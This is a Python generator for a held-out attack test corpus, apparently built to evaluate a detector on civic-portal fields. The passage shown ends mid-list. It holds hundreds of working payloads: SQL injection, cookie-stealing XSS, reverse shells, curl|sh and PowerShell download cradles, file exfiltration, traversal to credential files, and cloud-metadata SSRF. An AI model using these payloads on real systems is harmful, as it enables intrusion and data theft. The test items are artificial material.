"""Held-out attack corpus "civic" (ids ha34-NNNNN).

Attack payloads written into the same fields and notations as the benign civic
corpus (311 descriptions, permit numbers, docket numbers, library call numbers,
SoQL filters, benefits answers, e-filing uploads, notice templates, open-data
import URLs...).  Each value is a working payload against an application that
puts the value where its class says:

    class = "<context>-<technique>[+<encoding>]"      ("plain-..." = no civic context)

Literal blocks are split on lines that hold only "%%"; the first line of each
entry is the class, the remaining line(s) the value.  A few hand-written
payloads are base64-encoded by the generator (ENCODED list); a few need real
CR/LF/ESC characters and are written as escaped Python strings (CRLF_LITERALS).
Small template functions add the rest.  Standard library only; byte-identical
output on every run and any PYTHONHASHSEED.

    python3 make_attacks.py   ->   attacks.jsonl (next to this file)
"""

import base64
import json
import random
from pathlib import Path

SEED = 3402
PREFIX = "ha34"
CATEGORIES = ["sqli", "xss", "cmdi", "traversal", "ssrf", "code", "nosqli", "crlf", "ldap-xpath"]


def block(text):
    """Parse '%%'-separated entries: first line = class, rest = value."""
    out = []
    for part in text.split("\n%%\n"):
        part = part.strip("\n")
        if not part:
            continue
        cls, _, value = part.partition("\n")
        out.append((cls.strip(), value))
    return out


def b64(s):
    return base64.b64encode(s.encode("utf-8")).decode("ascii")


# ---------------------------------------------------------------------------
# SQL injection: docket / permit / 311 ids, catalogue LIKE searches, call
# numbers, SoQL $where passed to a SQL backend, sort keys, benefits notes.
# ---------------------------------------------------------------------------
SQLI = block(r"""
docket-union-select
2024-PC-117' UNION SELECT login, password_hash, NULL FROM staff_users-- -
%%
docket-boolean-blind-substring
24-CR-000871' AND SUBSTRING((SELECT password_hash FROM staff_users WHERE login='admin'),1,1)='$' AND '1'='1
%%
sr-id-stacked-pg-sleep
118830; SELECT pg_sleep(10)--
%%
permit-no-time-blind
B23-04417' AND SLEEP(8) AND 'x'='x
%%
soql-where-union-schema
4') UNION SELECT table_name, column_name FROM information_schema.columns--
%%
catalog-like-union
dickinson%' UNION SELECT card_number, pin, email, NULL FROM patrons WHERE '%'='
%%
callno-error-extractvalue
QA76.73' AND EXTRACTVALUE(1, CONCAT(0x7e, (SELECT @@version), 0x7e)) AND '1'='1
%%
callno-error-updatexml
005.133 PYT' OR UPDATEXML(NULL, CONCAT(0x2e, (SELECT user())), NULL)-- -
%%
benefits-caseno-stacked-waitfor
BN-2024-00871'; WAITFOR DELAY '0:0:9'--
%%
court-caseno-oob-xp-dirtree
FL-2019-002231'; EXEC master..xp_dirtree '\\203.0.113.44\share'--
%%
foia-keyword-error-convert
Harbor Rd' AND 1=CONVERT(int, (SELECT TOP 1 name FROM sys.tables))--
%%
catalog-union-oracle-version
Cervantes' UNION SELECT banner, NULL FROM v$version--
%%
sr-desc-oob-utl-http
Pothole at 5th & Main' || UTL_HTTP.REQUEST('http://ora.attacker.example/' || (SELECT user FROM dual)) || '
%%
callno-union-sqlite-master
PS3545.I345' UNION SELECT name, sql FROM sqlite_master--
%%
ward-error-cast-pg
4' AND 1=CAST((SELECT string_agg(usename, ',') FROM pg_user) AS int)--
%%
export-filter-stacked-copy-program
2023-12-31'; COPY (SELECT '') TO PROGRAM 'curl -s http://203.0.113.17/p.sh | sh'--
%%
comment-insert-subquery
Great idea, I support it'), ('2024-PC-117', (SELECT password_hash FROM staff_users WHERE login='admin'))-- -
%%
benefits-note-update-injection
Hours cut to 24/wk', status='APPROVED', monthly_award=9999 WHERE case_no='BN-2024-00871'-- -
%%
sort-orderby-conditional-error
created_date, (CASE WHEN (SELECT substr(password_hash,1,1) FROM staff_users LIMIT 1)='$' THEN 1 ELSE 1/0 END)
%%
sort-orderby-time
ward,(SELECT 1 FROM (SELECT SLEEP(6))x)
%%
opendata-limit-stacked-update
100; UPDATE staff_users SET role='admin' WHERE login='guest'--
%%
patron-login-tautology
29061000123456' OR '1'='1'-- -
%%
caption-second-order-stacked
Harbor Holdings, LLC'); DELETE FROM filings WHERE case_no LIKE '24-%'-- -
%%
plate-boolean-ascii
7AB' AND ASCII(SUBSTRING((SELECT database()),1,1))>100-- -
%%
docket-conditional-sleep
2024-PC-118' AND IF((SELECT COUNT(*) FROM staff_users WHERE role='admin')>1, SLEEP(5), 0)-- -
%%
catalog-benchmark-time
tolkien' AND BENCHMARK(30000000, SHA1('fairview'))-- -
%%
precinct-pg-conditional-sleep
0714' AND 1=(SELECT CASE WHEN current_setting('is_superuser')='on' THEN (SELECT 1 FROM pg_sleep(7)) ELSE 1 END)--
%%
catalog-union-load-file
Gödel' UNION SELECT LOAD_FILE('/etc/passwd'), NULL-- -
%%
agenda-union-into-outfile
Item 7.B' UNION SELECT '<?php system($_GET["c"]); ?>', NULL INTO OUTFILE '/var/www/html/uploads/agenda.php'-- -
%%
permit-oob-load-file-unc
B24-00102' AND LOAD_FILE(CONCAT('\\\\', (SELECT HEX(login) FROM staff_users LIMIT 1), '.sql.attacker.example\\a'))-- -
%%
docket-stacked-xp-cmdshell
24-0117-EV'; EXEC sp_configure 'show advanced options', 1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE; EXEC xp_cmdshell 'whoami > C:\inetpub\wwwroot\w.txt'--
%%
benefits-caseno-error-version
BN-2024-00872' AND 1=@@version--
%%
json-docket-tautology
{"docket": "2024-PC-117' OR 1=1-- -", "include_sealed": false}
%%
soql-where-stacked-drop
status='Open'); DROP TABLE sr_2024;--
%%
catalog-oracle-boolean
Kafka' AND (SELECT COUNT(*) FROM all_users WHERE username LIKE 'SYS%')>0 AND 'a'='a
%%
docket-oracle-dbms-pipe
24-CR-000874' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('x', 8)--
%%
caption-oracle-error-xmltype
Smith' AND 1=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||(SELECT user FROM dual)||CHR(62))) FROM dual)--
%%
callno-sqlite-blind
J FIC SNI' AND (SELECT substr(sql,1,1) FROM sqlite_master LIMIT 1)='C'--
%%
catalog-sqlite-randomblob-time
harry potter' AND 1=LIKE('ABCDEFG', UPPER(HEX(RANDOMBLOB(300000000/2))))--
%%
ward-union-group-concat
4' UNION SELECT GROUP_CONCAT(table_name SEPARATOR ','), 2 FROM information_schema.tables WHERE table_schema=DATABASE()-- -
%%
export-stacked-pg-read-file
2024-01-01'; CREATE TEMP TABLE t(x text); COPY t FROM '/etc/passwd'; SELECT string_agg(x, chr(10)) FROM t--
%%
sr-desc-pg-dblink-oob
Streetlight out' || (SELECT dblink_connect('host=203.0.113.50 user=' || current_user || ' dbname=x')) || '
%%
ward-numeric-tautology
4 OR 1=1
%%
ward-numeric-union
4 AND 1=2 UNION ALL SELECT NULL, concat(login, ':', password_hash), NULL FROM staff_users
%%
precinct-union-voter-pii
0714' UNION SELECT voter_id, ssn_last4, dob FROM voters-- -
%%
docket-error-double-query
2024-PC-119' AND (SELECT 1 FROM (SELECT COUNT(*), CONCAT((SELECT user()), FLOOR(RAND(0)*2)) x FROM information_schema.tables GROUP BY x) y)-- -
%%
permit-error-gtid-subset
B23-04418' AND GTID_SUBSET(CONCAT(0x7e, (SELECT user()), 0x7e), 1)-- -
%%
foia-having-column-enum
Project Sunrise' HAVING 1=1--
%%
foia-groupby-having-enum
Quiet Zone' GROUP BY requests.id HAVING 1=1--
%%
comment-multiline-stacked
I support the bike lane on Union St.
'); UPDATE comments SET approved=1, hidden=0 WHERE docket='2024-PC-117'; --
%%
patron-register-second-order
librarian'-- -
%%
docket-union-select+comment-space
2024-PC-117'/**/UNION/**/SELECT/**/login,password_hash/**/FROM/**/staff_users#
%%
catalog-union-select+case-mix
emily dickinson' uNiOn SeLeCt NULL, email FROM patrons-- -
%%
docket-union-select+urlenc
2024-PC-117%27%20UNION%20SELECT%20login%2Cpassword_hash%20FROM%20staff_users--%20-
%%
permit-time-blind+double-urlenc
B23-04417%2527%2520AND%2520SLEEP(5)--%2520-
%%
catalog-union-load-file+hex-literal
cien años' UNION SELECT 1, LOAD_FILE(0x2f6574632f706173737764)-- -
%%
patron-login-tautology+char-func
x' OR login=CHAR(97,100,109,105,110)-- -
%%
docket-union-select+versioned-comment
24-0117-EV' /*!50000UNION*/ /*!50000SELECT*/ login, password_hash FROM staff_users-- -
%%
sr-desc-subquery-nospace
x'||(SELECT(password_hash)FROM(staff_users)LIMIT(1))||'
%%
catalog-tautology+fullwidth-quote
dickinson＇ OR 1=1-- -
%%
catalog-escape-bypass-backslash
kafka\' OR 1=1-- -
%%
docket-order-by-column-count
2024-PC-117' ORDER BY 6-- -
%%
patron-blind-like
x' AND 1=(SELECT 1 FROM staff_users WHERE login='admin' AND password_hash LIKE '$2b$12$a%')-- -
%%
docket-mssql-conditional-waitfor
23CV01234'; IF (SELECT IS_SRVROLEMEMBER('sysadmin'))=1 WAITFOR DELAY '0:0:6'--
%%
caption-mssql-dns-exfil
Doe'; DECLARE @h varchar(200); SET @h=(SELECT TOP 1 login FROM staff_users)+'.mssql.attacker.example'; EXEC('master..xp_fileexist ''\\'+@h+'\x''')--
%%
soql-where-pg-sleep
4' AND (SELECT 1 FROM pg_sleep(9)) IS NOT NULL AND '1'='1
%%
export-union-pg-version
2024' UNION SELECT version(), current_database(), inet_server_addr()::text--
%%
callno-error-extractvalue-creds
641.5' AND EXTRACTVALUE(RAND(), CONCAT(0x3a, (SELECT CONCAT(login, 0x3a, password_hash) FROM staff_users LIMIT 0,1)))-- -
%%
benefits-household-insert-injection
4, 0); INSERT INTO approvals (case_no, status) VALUES ('BN-2024-00871', 'APPROVED')-- -
%%
plain-tautology
' OR '1'='1
%%
plain-order-by-probe
1' ORDER BY 5-- -
%%
plain-tautology-dq
" OR ""="
%%
plain-tautology-paren
') OR ('a'='a
%%
plain-stacked-sleep
1; SELECT pg_sleep(5)--
%%
plain-mssql-waitfor
'; WAITFOR DELAY '0:0:5'--
%%
plain-union-null
' UNION SELECT NULL,NULL,NULL--
%%
plain-comment-truncation
admin' #
""")

SQ_PREFIXES = [("docket", "2024-PC-12{d}"), ("permit", "B24-0{d}117"), ("sr-id", "SR-2024-1188{d}0"),
               ("callno", "QA76.73.P9{d}"), ("precinct", "07{d}4"), ("benefits-caseno", "BN-2024-0{d}871")]
SQ_CONDS = [("boolean-blind", "ORD(MID((SELECT login FROM staff_users LIMIT {k},1),{i},1))>{c}"),
            ("time-blind", "IF(ORD(MID(DATABASE(),{i},1))>{c},SLEEP({s}),0)"),
            ("count-blind", "(SELECT COUNT(*) FROM information_schema.columns WHERE column_name LIKE '%pass%')>{k}")]


def gen_sqli(rng):
    ctx, pre = rng.choice(SQ_PREFIXES)
    tech, cond = rng.choice(SQ_CONDS)
    cond = cond.format(k=rng.randint(0, 9), i=rng.randint(1, 12), c=rng.randint(48, 122), s=rng.randint(4, 9))
    return ctx + "-" + tech, "{}' AND {}-- -".format(pre.format(d=rng.randint(0, 9)), cond)


# ---------------------------------------------------------------------------
# XSS: comments/311 text rendered unescaped on staff dashboards, catalogue
# search echoed into attributes and JS strings, notice rich text, links.
# ---------------------------------------------------------------------------
XSS = block(r"""
comment-script-cookie-exfil
I support the bike lane! <script>fetch('https://attacker.example/c?'+document.cookie)</script>
%%
sr-desc-img-onerror
Pothole at 5th & Main <img src=x onerror="new Image().src='//attacker.example/s?c='+encodeURIComponent(document.cookie)">
%%
catalog-attr-dq-breakout
dickinson"><svg/onload=alert(document.domain)>
%%
catalog-attr-sq-event
harry potter' onmouseover='alert(document.cookie)' x='
%%
callno-js-string-sq-breakout
QA76.73';fetch('//attacker.example/t?'+localStorage.getItem('token'));//
%%
callno-js-string-dq-arith
005.133 PYT"-fetch('//attacker.example/x?'+document.cookie)-"
%%
hearing-notes-script-block-breakout
Hearing notes for 9/3</script><script>alert(document.cookie)</script>
%%
permit-link-javascript-uri
javascript:fetch('https://attacker.example/p?'+document.cookie)
%%
permit-link-javascript-uri+html-entities
jav&#x61;script&colon;alert&lpar;document.domain&rpar;
%%
caption-title-breakout
DOE v. CITY OF FAIRVIEW</title><script>alert(document.domain)</script>
%%
foia-textarea-breakout
All emails re: Harbor Rd</textarea><img src=x onerror=alert(document.cookie)>
%%
notice-css-attr-exfil
} input[name=csrf_token][value^=a]{background:url(https://attacker.example/css?a)}
%%
sr-photo-svg-onload
<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('//attacker.example/v?'+document.cookie)"><text y="20">pothole</text></svg>
%%
comment-details-ontoggle
See Exhibit B ¶ 4 <details open ontoggle=alert(document.domain)><summary>more</summary></details>
%%
comment-iframe-srcdoc
<iframe srcdoc="&lt;script&gt;parent.alert(document.domain)&lt;/script&gt;"></iframe>
%%
comment-markdown-javascript-link
[Staff report (PDF)](javascript:fetch('//attacker.example/?'+document.cookie))
%%
comment-markdown-img-attr-breakout
![map of the route](x" onerror="alert(document.domain))
%%
sr-desc-input-autofocus
Broken meter lid <input autofocus onfocus=alert(document.domain)>
%%
notice-video-source-onerror
<video><source onerror="alert(document.domain)"></video>
%%
comment-mutation-noscript
<noscript><p title="</noscript><img src=x onerror=alert(document.domain)>">
%%
agenda-js-template-literal
${fetch('//attacker.example/?c='+document.cookie)}
%%
catalog-angular-csti
{{constructor.constructor('alert(document.domain)')()}}
%%
comment-vue-csti
{{_c.constructor('fetch("//attacker.example/?"+document.cookie)')()}}
%%
sr-unquoted-attr-event
Rm 5 onmouseover=alert(document.domain) x=
%%
notice-json-innerhtml+unicode-escape
{"title": "Boil-water advisory", "body": "\u003cimg src=x onerror=alert(document.domain)\u003e"}
%%
catalog-reflected+urlenc
%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E
%%
catalog-reflected+double-urlenc
%253Csvg%2520onload%253Dalert(document.domain)%253E
%%
comment-script-tag+case-mix
Vote NO <ScRiPt>alert(document.cookie)</sCrIpT>
%%
sr-img-onerror+html-entities
<img src=x onerror="&#97;&#108;&#101;&#114;&#116;&#40;&#100;&#111;&#99;&#117;&#109;&#101;&#110;&#116;&#46;&#99;&#111;&#111;&#107;&#105;&#101;&#41;">
%%
notice-svg-script-entities
<svg><script>alert&#40;document.domain&#41;</script></svg>
%%
permit-link-anchor+decimal-entity
<a href="&#106;avascript:alert(document.domain)">Plans (rev 3)</a>
%%
comment-nested-strip-bypass
<scr<script>ipt>alert(document.domain)</scr</script>ipt>
%%
comment-svg-location-exfil
<svg/onload=location='//attacker.example/?'+document.cookie>
%%
notice-html-injection-phishing-form
<form action="https://attacker.example/phish" method="post"><b>Session expired.</b> Re-enter your portal password: <input name="password" type="password"><button>Continue</button></form>
%%
notice-meta-refresh-redirect
<meta http-equiv="refresh" content="0;url=https://attacker.example/login">
%%
comment-base-tag-hijack
Thanks for the update <base href="https://attacker.example/">
%%
foia-dangling-markup
Please expedite <img src='https://attacker.example/log?
%%
comment-marquee-onstart
<marquee onstart=alert(document.domain)>Public hearing moved!</marquee>
%%
catalog-select-autofocus
<select autofocus onfocus=alert(document.domain)></select>
%%
permit-iframe-javascript-src
<iframe src=javascript:alert(document.domain)></iframe>
%%
comment-contenteditable-onblur
<x contenteditable onblur=alert(document.domain)>click here then elsewhere</x>
%%
notice-svg-animate-onbegin
<svg><animate onbegin=alert(document.domain) attributeName=x dur=1s>
%%
notice-svg-animate-href
<svg><a><animate attributeName=href values=javascript:alert(document.domain) /><text x=20 y=20>Open map of polling places</text></a></svg>
%%
opendata-jsonp-callback
alert(document.domain);//
%%
comment-multiline-script
Thank you Council for your work.

<script>
  document.forms[0].action = 'https://attacker.example/collect';
</script>
%%
catalog-data-attr-breakout-script-src
x" data-x="1"><script src=https://attacker.example/x.js></script>
%%
sr-img-dynamic-import
<img src=1 onerror=import('//attacker.example/m.js')>
%%
callno-attr-autofocus-injection
" autofocus onfocus=alert(document.domain) x="
%%
notice-popover-onbeforetoggle
<button popovertarget=p>Details</button><div popover id=p onbeforetoggle=alert(document.domain)>Polling place update</div>
%%
comment-style-import-exfil
<style>@import 'https://attacker.example/x.css';</style>
%%
agenda-anchor-onfocusin
<a id=item9 tabindex=1 onfocusin=alert(document.domain)>Item 9</a>
%%
benefits-link-javascript-uri+tab
java	script:alert(document.domain)
%%
caption-svg-foreignobject
<svg><foreignObject width=100 height=100><iframe srcdoc="<script>parent.alert(document.domain)</script>"></iframe></foreignObject></svg>
%%
comment-body-onpageshow
<body onpageshow=alert(document.domain)>
%%
notice-object-data-html
<object data="data:text/html,<script>alert(document.domain)</script>"></object>
%%
docket-search-img-fromcharcode
<img src=x onerror=alert(String.fromCharCode(88,83,83))>
%%
plain-script-tag
<script>alert(1)</script>
%%
plain-img-onerror
<img src=x onerror=alert(1)>
%%
plain-attr-breakout
"><script>alert(1)</script>
%%
plain-svg-onload
<svg onload=alert(1)>
%%
plain-javascript-uri
javascript:alert(1)
%%
plain-js-string-breakout
'-alert(1)-'
%%
plain-body-onload
<body onload=alert(1)>
%%
plain-iframe-javascript
<iframe src="javascript:alert(1)">
""")

XS_PREFIXES = [("sr-desc", "Streetlight out on Elm St / Oak Ave "), ("comment", "I oppose the Harbor Rd rezoning. "),
               ("catalog", "gödel escher bach "), ("foia", "All records re: Project Sunrise "),
               ("notice", "AVISO: Precinto 14 "), ("benefits-note", "Hours cut to 24/wk "),
               ("caption", "SMITH v. FAIRVIEW USD ")]
XS_VECTORS = [("img-onerror", "<img src=x onerror={js}>"), ("svg-onload", "<svg onload={js}>"),
              ("details-ontoggle", "<details open ontoggle={js}>"), ("video-onerror", "<video src=x onerror={js}>"),
              ("body-onpageshow", "<body onpageshow={js}>")]
XS_JS = ["alert(document.domain)", "fetch('//attacker.example/'+document.cookie)",
         "location='//attacker.example/?'+document.cookie", "navigator.sendBeacon('//attacker.example/b',document.cookie)"]


def gen_xss(rng):
    ctx, pre = rng.choice(XS_PREFIXES)
    vname, vec = rng.choice(XS_VECTORS)
    return ctx + "-" + vname, pre + vec.format(js=rng.choice(XS_JS))


# ---------------------------------------------------------------------------
# Command injection: attachment names handed to converters, addresses to a
# geocoder script, device hostnames to ping, docket ids to grep, export names
# to tar/zip, e-filing conversion on a Windows host.
# ---------------------------------------------------------------------------
CMDI = block(r"""
photo-filename-semicolon
IMG_2041.jpg; curl -s http://203.0.113.7/s.sh | sh
%%
photo-filename-subshell
pothole$(curl -fsS http://attacker.example/x|sh).jpg
%%
plans-filename-backticks
plans_rev3`wget -q -O /tmp/a http://198.51.100.23/a; sh /tmp/a`.pdf
%%
geocode-address-sq-breakout
1207 W. Union Blvd'; nc -e /bin/sh 203.0.113.9 4444; echo '
%%
geocode-address-pipe-mail
5th and Main | mail -s loot collector@attacker.example < /etc/passwd
%%
sr-id-and-chain
SR-2024-118830 && id > /var/www/html/311/id.txt
%%
docket-or-chain-exfil
24-CR-000871 || curl http://attacker.example/$(whoami)
%%
permit-no-newline-revshell
B23-04417
bash -i >& /dev/tcp/203.0.113.12/8443 0>&1
%%
callno-ifs-space
QA76.73;cat${IFS}/etc/passwd
%%
precinct-brace-expansion
0714;{cat,/etc/passwd}
%%
device-host-glob-obfuscation
bmd-0331.local;/???/??t /???/p??s??
%%
sr-id-env-substring
118830;cat ${HOME:0:1}etc${HOME:0:1}passwd
%%
docket-printf-hex
24-0117-EV;$(printf '\x69\x64')
%%
sr-id-quote-split
118835;w'h'o'am'i
%%
callno-backslash-split
005.133;c\at /e\tc/pa\sswd
%%
export-files-tar-checkpoint
--checkpoint=1 --checkpoint-action=exec=sh /srv/uploads/IMG_2041.jpg
%%
isbn-curl-argument-injection
978-0-13-110362-7 -d @/etc/passwd https://attacker.example/collect
%%
sftp-host-ssh-proxycommand
-oProxyCommand=sh -c 'curl -s attacker.example/p|sh' x
%%
contact-form-sendmail-args
clerk@fairview.gov -X/var/www/html/uploads/log.php -OQueueDirectory=/tmp
%%
efiling-pdf-windows-ampersand
Exhibit_A.pdf & type C:\Windows\win.ini
%%
efiling-pdf-powershell-cradle
Exhibit_B.pdf & powershell -nop -w hidden -c "iex(iwr -UseBasicParsing http://198.51.100.40/a.ps1)"
%%
efiling-caret-obfuscation
DEF-000417.pdf & w^h^o^a^m^i
%%
efiling-comspec-pipe
DEF-000418.pdf | %COMSPEC% /c dir C:\inetpub\wwwroot
%%
efiling-certutil-download
Exhibit_C.pdf & certutil -urlcache -split -f http://attacker.example/a.exe %TEMP%\a.exe & %TEMP%\a.exe
%%
photo-mvg-delegate
push graphic-context
viewbox 0 0 640 480
fill 'url(https://attacker.example/p.jpg"|curl -s attacker.example/m|sh ")'
pop graphic-context
%%
device-host-sleep
10.0.4.21; sleep 10
%%
device-host-subshell-sleep
precinct-14-bmd.local$(sleep 7)
%%
sr-id-nslookup-exfil
118831;nslookup $(whoami).cmd.attacker.example
%%
geocode-python-revshell
22 Oak Ave; python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.30",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'
%%
notice-echo-subshell-redirect
Notice $(cat /etc/passwd > /var/www/html/notices/p.txt)
%%
docket-dev-tcp-exfil
24-CR-000872;exec 5<>/dev/tcp/203.0.113.8/80;cat /etc/passwd >&5
%%
gis-where-dq-breakout
ward = 4" ; curl http://attacker.example/g ; echo "
%%
opendata-awk-system
$4=="Open" {system("curl -s attacker.example/k|sh")}
%%
sr-id-ansi-c-quoting+hex-escape
118832;$'\x63\x61\x74' /etc/passwd
%%
callno-rev-herestring
QA76.9;$(rev<<<'imaohw')
%%
docket-var-concat
24-0117-EV;a=who;b=ami;$a$b
%%
permit-no-sleep-comment
B24-00102;sleep 10 #
%%
device-host-ping-delay
bmd-0332.local && ping -c 10 127.0.0.1
%%
export-curl-upload
minutes_2024-03-12 && curl -T /etc/passwd ftp://198.51.100.3/
%%
export-wget-post-file
minutes_2024-03-13; wget --post-file=/etc/shadow http://attacker.example/u
%%
callno-ifs-override
QA76.8;IFS=_;c=cat_/etc/passwd;$c
%%
photo-filename-redirect-nospace
IMG_2043.jpg;cat</etc/passwd
%%
sr-id-brace-base64
118833;{echo,aWQ=}|{base64,-d}|sh
%%
efiling-powershell-invoke-webrequest
24-0117-EV; Invoke-WebRequest -Uri http://attacker.example/w -Method POST -InFile C:\Windows\win.ini
%%
efiling-win-env-type
Exhibit_D.pdf & type %SYSTEMROOT%\win.ini
%%
sr-id-semicolon+urlenc
118834%3B%20cat%20%2Fetc%2Fpasswd
%%
docket-and+urlenc
24-CR-000873%26%26%20id
%%
device-host-newline+urlenc
bmd-0333.local%0Aid
%%
device-host-newline+double-urlenc
bmd-0334.local%250Acat%2520%252Fetc%252Fpasswd
%%
photo-filename-ifs-curl
IMG_2044.jpg;curl${IFS}-s${IFS}http://attacker.example/i|sh
%%
archive-search-find-exec
* -exec sh -c 'curl -s attacker.example/f|sh' ;
%%
export-zip-testcmd-argument
minutes.pdf -T -TT 'sh -c "curl -s attacker.example/z|sh" #'
%%
legacy-perl-open-trailing-pipe
curl -s attacker.example/o|sh|
%%
efiling-net-user-add
Exhibit_E.pdf & net user clerk2 placeholder-Passw0rd! /add & net localgroup administrators clerk2 /add
%%
plain-semicolon-id
; id
%%
plain-pipe-whoami
| whoami
%%
plain-and-cat-passwd
&& cat /etc/passwd
%%
plain-subshell-id
$(id)
%%
plain-backtick-uname
`uname -a`
%%
plain-or-ping
|| ping -c 5 127.0.0.1
%%
plain-semicolon-sleep
; sleep 5
""")

CM_PREFIXES = [("photo-filename", "IMG_20{d}.jpg"), ("plans-filename", "sheet_A-{d}.1_rev3.pdf"),
               ("device-host", "bmd-0{d}.precinct.local"), ("docket", "24-CR-00{d}"), ("sr-id", "SR-2024-{d}"),
               ("export-name", "minutes_2024-{d}")]
CM_SEPS = [("semicolon", "{p};{c}"), ("pipe", "{p}|{c}"), ("and-chain", "{p} && {c}"), ("subshell", "{p}$({c})"),
           ("backticks", "{p}`{c}`"), ("newline", "{p}\n{c}"), ("or-chain", "{p} || {c}")]
CM_CMDS = ["id", "sleep {n}", "curl -s http://attacker.example/{w}|sh", "nslookup $(hostname).{w}.attacker.example",
           "wget -qO- http://198.51.100.{n}/{w}|sh", "cat /etc/passwd"]
CM_WORDS = ["a", "b7", "q", "x1", "s", "k9", "r", "m2"]


def gen_cmdi(rng):
    ctx, pre = rng.choice(CM_PREFIXES)
    sname, sep = rng.choice(CM_SEPS)
    cmd = rng.choice(CM_CMDS).format(n=rng.randint(5, 60), w=rng.choice(CM_WORDS))
    return ctx + "-" + sname, sep.format(p=pre.format(d=rng.randint(100, 999)), c=cmd)


# ---------------------------------------------------------------------------
# Path traversal: attachment / agenda packet / plan sheet downloads, language
# and template names, e-filing zip entries, log viewer.
# ---------------------------------------------------------------------------
TRAVERSAL = block(r"""
attachment-dotdot-passwd
../../../../etc/passwd
%%
agenda-packet-dotdot
agenda/2024-03-12/../../../../../etc/passwd
%%
staff-report-dotdot-shadow
staff_reports/2024/../../../../../../etc/shadow
%%
efiling-windows-backslash
..\..\..\..\Windows\win.ini
%%
efiling-web-config
..\..\..\inetpub\wwwroot\web.config
%%
attachment-dotdot+urlenc
%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd
%%
attachment-dotdot+double-urlenc
%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd
%%
plans-dotdot+overlong-utf8
%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd
%%
plans-slash+overlong-utf8
..%c0%af..%c0%af..%c0%af..%c0%afetc%c0%afpasswd
%%
attachment-strip-once-bypass
....//....//....//....//etc/passwd
%%
minutes-tomcat-path-param
..;/..;/WEB-INF/web.xml
%%
exhibit-null-byte-extension
../../../../etc/passwd%00.pdf
%%
template-absolute-path
/etc/passwd
%%
lang-proc-self-environ
../../../../../../proc/self/environ
%%
attachment-k8s-serviceaccount-token
../../../../var/run/secrets/kubernetes.io/serviceaccount/token
%%
template-dotenv
../../../../app/.env
%%
static-git-config
../.git/config
%%
efiling-zip-slip-entry
../../../../var/www/html/uploads/notice.php
%%
attachment-slash+urlenc
..%2f..%2f..%2f..%2fetc%2fpasswd
%%
attachment-dots+urlenc
%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/hosts
%%
efiling-backslash+urlenc
..%5c..%5c..%5c..%5cwindows%5cwin.ini
%%
efiling-backslash+double-urlenc
..%255c..%255c..%255c..%255cwindows%255csystem32%255cdrivers%255cetc%255chosts
%%
efiling-iis-u-encoding
..%u002f..%u002f..%u002fwindows%u002fwin.ini
%%
attachment-unc-path
\\203.0.113.5\share\Exhibit_A.pdf
%%
efiling-windows-absolute
C:\Windows\System32\drivers\etc\hosts
%%
efiling-normalized-abs-ssh-key
/srv/efiling/../../root/.ssh/id_rsa
%%
lang-proc-self-cmdline
../../../../../../proc/self/cmdline
%%
template-php-filter-wrapper
php://filter/convert.base64-encode/resource=../config/database.php
%%
log-viewer-nginx-access-log
../../../../var/log/nginx/access.log
%%
attachment-nested-strip-bypass
..././..././..././..././etc/passwd
%%
download-leading-slash+urlenc
%2F..%2F..%2F..%2F..%2Fetc%2Fshadow
%%
static-prefix-dotdot
/static/../../../../etc/passwd
%%
minutes-bash-history
minutes/2023/../../../../../../home/clerk/.bash_history
%%
lang-php-ini
../../../../../../../../usr/local/etc/php/php.ini
%%
plans-dotdot+overlong-utf8-3byte
%e0%80%ae%e0%80%ae/%e0%80%ae%e0%80%ae/%e0%80%ae%e0%80%ae/etc/passwd
%%
efiling-backslash+overlong-utf8
..%c1%9c..%c1%9c..%c1%9cwindows%c1%9cwin.ini
%%
exhibit-docnum-dotdot
docs/DEF-000417/../../../../../etc/passwd
%%
minutes-double-slash-webinf
..//..//..//WEB-INF/web.xml
%%
efiling-iis-log-absolute
C:/inetpub/logs/LogFiles/W3SVC1/u_ex240312.log
%%
avatar-aws-credentials
../../../../root/.aws/credentials
%%
template-mixed-slashes-windows
..\/..\/..\/windows\/win.ini
%%
template-file-uri
file:///etc/group
%%
lang-proc-cwd-config
..%2F..%2F..%2F..%2Fproc%2Fself%2Fcwd%2Fconfig.py
%%
plain-dotdot-passwd
../../../etc/passwd
%%
plain-windows-dotdot
..\..\..\windows\win.ini
%%
plain-absolute-shadow
/etc/shadow
%%
plain-dotdot-hosts
../../../../../../etc/hosts
""")

TR_CTX = ["attachment", "agenda-packet", "plans-sheet", "exhibit", "lang", "template"]
TR_STYLES = [("dotdot", "../", ""), ("backslash", "..\\", ""), ("dotdot", "%2e%2e%2f", "+urlenc"),
             ("strip-once-bypass", "....//", ""), ("dotdot", "..%252f", "+double-urlenc")]
TR_TARGETS_UNIX = ["etc/passwd", "etc/shadow", "proc/self/environ", "root/.ssh/id_rsa", "etc/nginx/nginx.conf",
                   "var/www/.env", "home/clerk/.aws/credentials"]
TR_TARGETS_WIN = ["windows/win.ini", "inetpub/wwwroot/web.config", "windows/system32/drivers/etc/hosts"]


def gen_traversal(rng):
    ctx = rng.choice(TR_CTX)
    tech, step, enc = rng.choice(TR_STYLES)
    depth = rng.randint(3, 9)
    if step == "..\\":
        target = rng.choice(TR_TARGETS_WIN).replace("/", "\\")
    else:
        target = rng.choice(TR_TARGETS_UNIX)
        if enc == "+urlenc":
            target = target.replace("/", "%2f")
    return "{}-{}{}".format(ctx, tech, enc), step * depth + target


# ---------------------------------------------------------------------------
# SSRF: open-data "import from URL", cover image URLs, agenda feed URLs,
# webhooks, GIS tile layers, HTML rendered to PDF by a headless browser.
# ---------------------------------------------------------------------------
SSRF = block(r"""
import-url-aws-imds-creds
http://169.254.169.254/latest/meta-data/iam/security-credentials/
%%
import-url-aws-user-data
http://169.254.169.254/latest/user-data
%%
webhook-gcp-metadata-token
http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token
%%
plans-link-azure-imds
http://169.254.169.254/metadata/instance?api-version=2021-02-01
%%
cover-url-imds+ip-decimal
http://2852039166/latest/meta-data/
%%
